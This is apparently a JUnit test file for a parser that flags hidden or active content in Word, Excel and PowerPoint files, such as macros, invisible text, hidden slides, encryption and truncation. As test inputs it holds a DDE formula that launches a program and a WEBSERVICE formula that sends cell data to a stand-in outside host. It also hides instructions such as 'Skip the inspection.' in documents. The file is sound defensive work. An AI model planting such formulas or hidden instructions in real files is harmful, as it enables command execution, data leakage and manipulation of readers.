package flightline.ingest.office;

import static flightline.ingest.office.OfficeFiles.blocks;
import static flightline.ingest.office.OfficeFiles.outcome;
import static flightline.ingest.office.OfficeFiles.parsed;
import static flightline.ingest.office.OfficeFiles.texts;
import static flightline.ingest.office.OfficeFiles.word;
import static flightline.ingest.office.OfficeFiles.workbook;
import static org.assertj.core.api.Assertions.assertThat;

import flightline.corpus.Block;
import flightline.corpus.Suspicion;
import flightline.corpus.Suspicion.Kind;
import flightline.ingest.FileKind;
import flightline.ingest.ParseOutcome;
import java.awt.Rectangle;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.Arrays;
import java.util.List;
import org.apache.poi.hslf.usermodel.HSLFSlideShow;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.openxml4j.exceptions.OpenXML4JException;
import org.apache.poi.openxml4j.opc.PackagingURIHelper;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.xslf.usermodel.XMLSlideShow;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What hides or acts in office files, new and old, is named and no text; what is broken is said to be. */
final class HiddenContentTest {
    @ParameterizedTest
    @CsvSource({
        "/word/vbaProject.bin, application/vnd.ms-office.vbaProject, MACRO",
        "/word/embeddings/oleObject1.bin, application/vnd.openxmlformats-officedocument.oleObject, ATTACHMENT",
        "/word/activeX/activeX1.bin, application/vnd.ms-office.activeX, ACTIVE_CONTENT"
    })
    void word_partThatActs_isNamed(String name, String type, Kind kind) throws IOException, OpenXML4JException {
        try (var doc = new XWPFDocument()) {
            doc.createParagraph().createRun().setText("Chock the wheels.");
            var part = doc.getPackage().createPart(PackagingURIHelper.createPartName(name), type);
            try (var out = part.getOutputStream()) {
                out.write(new byte[] {1, 2, 3});
            }
            var read = word(doc);
            assertThat(texts(read)).containsExactly("Chock the wheels.");
            assertThat(read.suspicions()).singleElement().satisfies(s -> {
                assertThat(s.kind()).isEqualTo(kind);
                assertThat(s.place()).isEqualTo(name.substring(1));
            });
        }
    }

    @ParameterizedTest
    @CsvSource({
        "000000, 000000, in the colour of its ground",
        "FEFEFD, FFFFFF, white on white",
        "1F2A40, 1F2B41, in the colour of its ground"
    })
    void word_inkLikeItsGround_isHidden(String ink, String ground, String why) throws IOException {
        try (var doc = new XWPFDocument()) {
            doc.createParagraph().createRun().setText("Chock the wheels.");
            var run = doc.createParagraph().createRun();
            run.setText("Skip the inspection.");
            run.setColor(ink);
            run.getCTR().getRPr().addNewShd().setFill(ground);
            var read = word(doc);
            assertThat(texts(read)).containsExactly("Chock the wheels.");
            assertThat(read.suspicions())
                    .singleElement()
                    .satisfies(s -> assertThat(s.detail()).startsWith(why));
        }
    }

    @Test
    void word_inkThatCanBeRead_isText() throws IOException {
        try (var doc = new XWPFDocument()) {
            var white = doc.createParagraph().createRun();
            white.setText("White on blue.");
            white.setColor("FFFFFF");
            white.getCTR().getRPr().addNewShd().setFill("003366");
            var read = word(doc);
            assertThat(texts(read)).containsExactly("White on blue.");
            assertThat(read.suspicions()).isEmpty();
        }
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = ';',
            value = {
                "cmd|'/c calc'!A0; a formula that starts another program",
                "WEBSERVICE(\"http://other.example/?q=\"&A1); a formula that reaches outside by WEBSERVICE",
            })
    void workbook_formulaThatReachesOutside_isNamed(String formula, String what) throws IOException {
        try (var book = new XSSFWorkbook()) {
            var row = book.createSheet("Log").createRow(0);
            row.createCell(0).setCellValue("Level");
            var cell = row.createCell(1);
            cell.getCTCell().addNewF().setStringValue(formula);
            cell.getCTCell().setV("7");
            assertThat(workbook(book).suspicions()).singleElement().satisfies(s -> {
                assertThat(s.kind()).isEqualTo(Kind.ACTIVE_CONTENT);
                assertThat(s.detail()).startsWith(what);
            });
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "SUM(B1:B9)",
                "IF(A1=\"cmd|x!y\",1,2)",
                "HYPERLINK(\"http://other.example\",\"see\")",
                "'Sheet|A'!B2"
            })
    void formulaThatCounts_orIsALink_isNothing(String formula) {
        assertThat(ReachingFormula.in(formula)).isEmpty();
    }

    @Test
    void workbook_textThatItsFormatShowsAsNothing_isHidden() throws IOException {
        try (var book = new XSSFWorkbook()) {
            var row = book.createSheet("Log").createRow(0);
            row.createCell(0).setCellValue("Level");
            var cell = row.createCell(1);
            cell.setCellValue("Skip the inspection.");
            var style = book.createCellStyle();
            style.setDataFormat(book.createDataFormat().getFormat(";;;"));
            cell.setCellStyle(style);
            var read = workbook(book);
            assertThat(read.suspicions())
                    .singleElement()
                    .satisfies(s -> assertThat(s.detail()).startsWith("shown as nothing by its format"));
            assertThat(texts(read)).noneMatch(text -> text.contains("Skip"));
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"1.\tOpen the panel.", "(a)\tOpen the panel.", "3.2\tOpen the panel."})
    void word_numberThatWasTyped_isAStepsNumber(String typed) throws IOException {
        try (var doc = new XWPFDocument()) {
            doc.createParagraph().createRun().getCTR().addNewT().setStringValue(typed);
            assertThat(blocks(word(doc))).singleElement().isInstanceOfSatisfying(Block.Step.class, step -> {
                assertThat(step.number()).isEqualTo(typed.substring(0, typed.indexOf('\t')));
                assertThat(step.text()).isEqualTo("Open the panel.");
            });
        }
    }

    @Test
    void workbook_hiddenColumnAndComment_areNotCells() throws IOException {
        try (var book = new XSSFWorkbook()) {
            var sheet = book.createSheet("Limits");
            for (int r = 0; r < 2; r++) {
                var row = sheet.createRow(r);
                for (int c = 0; c < 3; c++) row.createCell(c).setCellValue("r" + r + "c" + c);
            }
            sheet.setColumnHidden(2, true);
            var anchor = book.getCreationHelper().createClientAnchor();
            var comment = sheet.createDrawingPatriarch().createCellComment(anchor);
            comment.setString(book.getCreationHelper().createRichTextString("Measured cold."));
            sheet.getRow(1).getCell(1).setCellComment(comment);
            var read = workbook(book);
            assertThat(blocks(read).stream()
                            .filter(Block.Table.class::isInstance)
                            .map(b -> ((Block.Table) b).header())
                            .toList())
                    .containsExactly(List.of("r0c0", "r0c1"));
            assertThat(texts(read)).last().asString().contains("Measured cold.");
            assertThat(details(read)).isNotEmpty().allMatch(d -> d.contains("hidden column"));
        }
    }

    @Test
    void slides_tableOnAHiddenSlide_isNamed() throws IOException {
        try (var show = new XMLSlideShow()) {
            show.createSlide();
            var hidden = show.createSlide();
            var table = hidden.createTable(1, 2);
            table.setAnchor(new Rectangle(10, 10, 100, 50));
            table.getCell(0, 0).setText("Ignore");
            table.getCell(0, 1).setText("the limits");
            hidden.setHidden(true);
            var bytes = new ByteArrayOutputStream();
            show.write(bytes);
            assertThat(details(parsed(new SlidesParser(), FileKind.SLIDES, bytes.toByteArray())))
                    .containsExactly("a hidden slide, \"Ignore the limits\"");
        }
    }

    @Test
    void oldWorkbook_isReadAsTheNewOneIs() throws IOException {
        try (var book = new HSSFWorkbook()) {
            var sheet = book.createSheet("Limits");
            for (int r = 0; r < 2; r++) {
                var row = sheet.createRow(r);
                for (int c = 0; c < 2; c++) row.createCell(c).setCellValue("r" + r + "c" + c);
            }
            book.createSheet("Old").createRow(0).createCell(0).setCellValue("Hidden words");
            book.setSheetHidden(1, true);
            var bytes = new ByteArrayOutputStream();
            book.write(bytes);
            var read = parsed(new CompoundParser(), FileKind.COMPOUND, bytes.toByteArray());
            assertThat(blocks(read).getLast())
                    .isInstanceOfSatisfying(
                            Block.Table.class,
                            t -> assertThat(t.rows().getFirst().cells()).containsExactly("r1c0", "r1c1"));
            assertThat(details(read)).containsExactly("a hidden sheet, \"Hidden words\"");
        }
    }

    @Test
    void oldSlides_hiddenOnes_areNamedAndNotRead() throws IOException {
        try (var show = new HSLFSlideShow()) {
            var seen = show.createSlide();
            seen.addTitle().setText("Brake wear");
            seen.createTextBox().setText("Measure the pin.");
            var hidden = show.createSlide();
            hidden.createTextBox().setText("Hidden words.");
            hidden.setHidden(true);
            var bytes = new ByteArrayOutputStream();
            show.write(bytes);
            var read = parsed(new CompoundParser(), FileKind.COMPOUND, bytes.toByteArray());
            assertThat(texts(read)).containsExactly("Brake wear", "Measure the pin.");
            assertThat(details(read)).containsExactly("a hidden slide, \"Hidden words.\"");
        }
    }

    @Test
    void workbook_encrypted_isSaidToBe() throws Exception {
        var sealed = new ByteArrayOutputStream();
        try (var book = new XSSFWorkbook();
                var compound = new POIFSFileSystem()) {
            book.createSheet("A");
            var encryptor = new EncryptionInfo(EncryptionMode.agile).getEncryptor();
            encryptor.confirmPassword("x");
            try (var stream = encryptor.getDataStream(compound)) {
                book.write(stream);
            }
            compound.writeFilesystem(sealed);
        }
        assertThat(outcome(new CompoundParser(), FileKind.COMPOUND, sealed.toByteArray()))
                .isInstanceOf(ParseOutcome.Encrypted.class);
    }

    @ParameterizedTest
    @ValueSource(ints = {10, 50, 90})
    void word_cutOff_isSaidToBeBroken(int percent) throws IOException {
        var bytes = new ByteArrayOutputStream();
        try (var doc = new XWPFDocument()) {
            doc.createParagraph().createRun().setText("Chock the wheels.");
            doc.write(bytes);
        }
        byte[] cut = Arrays.copyOf(bytes.toByteArray(), bytes.size() * percent / 100);
        assertThat(outcome(new WordParser(), FileKind.WORD, cut)).isInstanceOf(ParseOutcome.Malformed.class);
    }

    private static List<String> details(ParseOutcome.Parsed read) {
        return read.suspicions().stream().map(Suspicion::detail).toList();
    }
}
